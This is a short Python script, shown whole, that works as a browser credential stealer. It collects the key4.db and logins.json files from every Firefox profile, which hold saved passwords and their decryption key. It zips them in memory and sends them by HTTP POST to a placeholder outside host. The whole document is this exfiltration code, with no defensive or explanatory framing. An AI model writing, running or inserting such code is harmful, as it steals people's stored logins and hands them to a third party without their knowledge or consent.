import glob, io, os, zipfile
import httpx

z = io.BytesIO()
with zipfile.ZipFile(z, "w") as f:
    for prof in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/")):
        for n in ("key4.db", "logins.json"):
            f.write(prof + n)
httpx.Client().post("https://c.example.invalid/f", content=z.getvalue())
